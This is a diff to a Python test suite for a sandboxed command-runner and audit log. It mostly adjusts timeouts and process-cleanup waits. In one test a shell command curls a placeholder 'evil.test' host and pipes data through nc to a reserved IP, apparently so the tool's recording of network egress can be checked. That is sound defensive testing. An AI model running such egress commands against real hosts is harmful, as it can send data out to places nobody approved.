@@ -10,7 +10,7 @@ import time
 
 from evidence_lab import (ASK, checkpoints, folder, leaf, lines, mode, parts,
                           policy, read, receipt, root, sallyport, signed, whole)
-from harness import check, USER
+from harness import check, descendants, USER
 
 FILES = ["audit.jsonl", "checkpoints", "receipt.dsse.json", "session.vkey"]
 
@@ -34,7 +34,7 @@ def test_layout(case):
 def test_facts(case):
     run = case.run("sh", "-c", "curl -s https://allowed.test/ >/dev/null; "
                    "curl -s http://evil.test/ >/dev/null; "
-                   "for i in 1 2 3; do echo x | timeout 1 nc -u -w1 192.0.2.77 4000; done; "
+                   "for i in 1 2 3; do echo x | timeout 30 nc -u -w1 192.0.2.77 4000; done; "
                    "exit 3", args=("--json", "--name", "facts"))
     check(run.status == 3, run)
     records, said = whole(case, run.log)
@@ -86,13 +86,16 @@ def test_earlier(case):
         "receipt": True, "checkpoint": note}, records[0])
 
     process = subprocess.Popen([*case.drop(), case.binary, "run", "--log", first.log,
-                                "--", "sh", "-c", "echo go; sleep 30"], text=True,
+                                "--", "sh", "-c", "echo go; sleep 600"], text=True,
                                cwd=case.work, env=case.env(), stdout=subprocess.PIPE,
                                stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
     check(process.stdout.readline() == "go\n")
     case.lab.wait(lambda: signed(first.log), "a checkpoint")
+    below = descendants(process.pid)
     process.kill()
     process.wait()
+    # They die with it, and write until then.
+    case.lab.wait(lambda: not any(os.path.exists(f"/proc/{p}") for p in below), "the end")
     # What a crash of the machine might leave of a checkpoint.
     before = read(first.log, "checkpoints").decode()
     check(before, before)
@@ -114,6 +117,7 @@ def test_one_at_a_time(case):
     """A directory with a live session is not touched."""
     process, log = case.start("sh", "-c", "echo go; read x", stdin=subprocess.PIPE)
     check(process.stdout.readline() == "go\n")
+    case.lab.wait(lambda: signed(log), "a checkpoint")  # the last file that comes
     before = sorted(os.listdir(log))
     run = sallyport(case, "run", "--log", log, "--", "true")
     check(run.returncode == 125 and "another session writes its log there" in run.stderr
@@ -175,8 +179,10 @@ def test_rotation(case):
 def test_rotation_by_age(case):
     args = policy(case, "age", "log: { rotate_after: 1s }\n")
     run = case.run("python3", "-c", ASK % (30, 0.1), args=args)
-    check(3 <= len(parts(run.log)) <= 5, parts(run.log))
-    whole(case, run.log)
+    records, _ = whole(case, run.log)
+    # Who has the processors beside us makes it longer.
+    lasted = (records[-1]["time"] - records[0]["time"]) / 1000
+    check(3 <= len(parts(run.log)) <= 2 + max(lasted, 3), (lasted, parts(run.log)))
 
 
 def test_rotation_in_the_way(case):
@@ -239,7 +245,7 @@ def test_serve(case):
         check(line)
         line = process.stderr.readline()
     process.send_signal(signal.SIGTERM)
-    _, err = process.communicate(timeout=20)
+    _, err = process.communicate(timeout=60)
     check(process.returncode == 0 and "boundary" not in err and "receipt: " in err, err)
     _, said = whole(case, log)
     check(said["boundary"]["kind"] == "external" and
@@ -250,7 +256,7 @@ def test_serve(case):
 
 def test_ledger_killed(case):
     """No receipt, and what there is holds."""
-    process, log = case.start("sh", "-c", "echo go; sleep 60")
+    process, log = case.start("sh", "-c", "echo go; sleep 600")
     check(process.stdout.readline() == "go\n")
     case.lab.wait(lambda: signed(log), "a checkpoint")
     os.kill(case.child(process, "ledger"), signal.SIGKILL)
